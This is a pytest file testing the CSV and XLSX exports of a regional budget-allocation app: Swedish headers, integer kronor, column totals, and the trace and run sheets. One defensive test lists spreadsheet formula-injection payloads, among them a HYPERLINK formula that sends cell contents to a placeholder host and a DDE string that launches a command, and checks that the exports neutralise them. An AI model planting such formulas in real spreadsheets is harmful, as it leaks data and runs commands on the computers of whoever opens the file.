"""Exports: CSV and XLSX with Swedish headers, whole kronor, the trace on its own sheet."""

import csv
import io

import pytest
from openpyxl import load_workbook

from alfadmin.kernel.spreadsheets import REPLACEMENT
from alfadmin.models import BudgetYear, Region
from allocations.models import CurrentAllocation

pytestmark = pytest.mark.django_db


@pytest.fixture
def viewer_client(client, users):
    client.force_login(users["viewer"])
    return client


def _csv(response):
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with a BOM
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_csv_alf2015_has_swedish_headers_integer_kronor_and_sums_to_the_appropriations(computed, viewer_client):
    response = viewer_client.get("/allocations/2025/export.csv?model=alf2015")
    assert 'filename="fordelning-2025-alf2015.csv"' in response["Content-Disposition"]
    rows = _csv(response)
    assert rows[0] == [
        "Region",
        "Regionnamn",
        "Utbildning (kr)",
        "Forskning, basbelopp (kr)",
        "Forskning, panel 1 (kr)",
        "Forskning, panel 2 (kr)",
        "Forskning, panel 3 (kr)",
        "Forskning totalt (kr)",
        "Totalt (kr)",
    ]
    body = {row[0]: row for row in rows[1:]}
    assert set(body) == {"AAA", "BBB", "CCC", "Summa"}
    run = CurrentAllocation.objects.select_related("run").get(year=2025, model="alf2015").run
    aaa = run.result["research"]["regions"]["AAA"]
    assert body["AAA"][1] == "Region AAA"
    assert [int(v) for v in body["AAA"][2:]] == [
        run.result["education"]["regions"]["AAA"],
        aaa["base"],
        aaa["panel_1"],
        aaa["panel_2"],
        aaa["panel_3"],
        aaa["total"],
        run.result["education"]["regions"]["AAA"] + aaa["total"],
    ]
    budget_year = BudgetYear.objects.get(year=2025)
    assert int(body["Summa"][7]) == budget_year.research_appropriation
    assert int(body["Summa"][8]) == run.result["education"]["total"] + budget_year.research_appropriation
    for column in range(2, 8):  # every column adds up
        assert sum(int(body[c][column]) for c in ("AAA", "BBB", "CCC")) == int(body["Summa"][column])


def test_csv_ds2024_has_guns_and_forfeited_columns(computed, viewer_client):
    rows = _csv(viewer_client.get("/allocations/2024/export.csv?model=ds2024"))
    assert "Förverkat kvalitetsbelopp (kr)" in rows[0]
    body = {row[0]: row for row in rows[1:]}
    assert "GUNS" in body
    total_column = rows[0].index("Totalt (kr)")
    regions_and_guns = sum(int(body[c][total_column]) for c in ("AAA", "BBB", "CCC", "GUNS"))
    assert regions_and_guns == int(body["Summa"][total_column])


def test_csv_of_a_year_without_research(computed, viewer_client):
    rows = _csv(viewer_client.get("/allocations/2023/export.csv"))
    body = {row[0]: row for row in rows[1:]}
    assert body["AAA"][3] == ""  # no research computed: no figure, not zero
    assert int(body["Summa"][2]) == 150_000_000


def test_xlsx_has_the_table_the_trace_and_the_run(computed, viewer_client):
    response = viewer_client.get("/allocations/2024/export.xlsx?model=ds2024")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Fördelning", "Beräkning", "Körning"]
    table = list(workbook["Fördelning"].values)
    assert table[0][:3] == ("Region", "Regionnamn", "Utbildning (kr)")
    csv_rows = _csv(viewer_client.get("/allocations/2024/export.csv?model=ds2024"))
    for xlsx_row, csv_row in zip(table[1:], csv_rows[1:], strict=True):
        assert ["" if v is None else str(v) for v in xlsx_row] == csv_row
        assert all(isinstance(v, int) for v in xlsx_row[2:] if v is not None)
    run = CurrentAllocation.objects.select_related("run").get(year=2024, model="ds2024").run
    steps = list(workbook["Beräkning"].values)
    assert steps[0] == ("Nr", "Steg", "Region", "Panel", "Rad", "Belopp (kr)", "Förklaring")
    assert len(steps) - 1 == len(run.trace)
    assert any("GUNS" in (row[6] or "") for row in steps[1:])  # Swedish sentences
    facts = dict(list(workbook["Körning"].values)[1:9])
    assert facts["Körning"] == run.pk
    assert facts["Indata (SHA-256)"] == run.input_hash


PAYLOADS = ['=HYPERLINK("http://x?"&A2,"Click")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "\tleading tab", "\rleading CR"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_region_name_is_text_in_the_csv_and_the_xlsx(computed, viewer_client, payload):
    Region.objects.filter(code="AAA").update(name=payload)  # as stored: the exports must not trust it
    body = {row[0]: row for row in _csv(viewer_client.get("/allocations/2025/export.csv?model=alf2015"))[1:]}
    assert body["AAA"][1] == "'" + payload  # CSV has no cell types: the quote keeps it a text
    assert body["AAA"][2].lstrip("-").isdigit()  # amounts stay plain numbers
    table = load_workbook(io.BytesIO(viewer_client.get("/allocations/2025/export.xlsx?model=alf2015").content))["Fördelning"]
    row = next(row for row in table.iter_rows(min_row=2) if row[0].value == "AAA")
    # XML reads a carriage return as a line feed; the text is otherwise as stored, never a formula.
    assert (row[1].value, row[1].data_type) == (payload.replace("\r", "\n"), "s")
    assert row[2].data_type == "n"


def test_a_stored_control_character_in_a_region_name_is_replaced_in_both_exports(computed, viewer_client):
    Region.objects.filter(code="AAA").update(name="Region\u000bAAA")  # older data, from before the check
    csv_response = viewer_client.get("/allocations/2025/export.csv?model=alf2015")
    xlsx_response = viewer_client.get("/allocations/2025/export.xlsx?model=alf2015")
    assert (csv_response.status_code, xlsx_response.status_code) == (200, 200)
    assert {row[0]: row for row in _csv(csv_response)[1:]}["AAA"][1] == f"Region{REPLACEMENT}AAA"
    table = load_workbook(io.BytesIO(xlsx_response.content))["Fördelning"]
    assert next(row for row in table.iter_rows(min_row=2) if row[0].value == "AAA")[1].value == f"Region{REPLACEMENT}AAA"
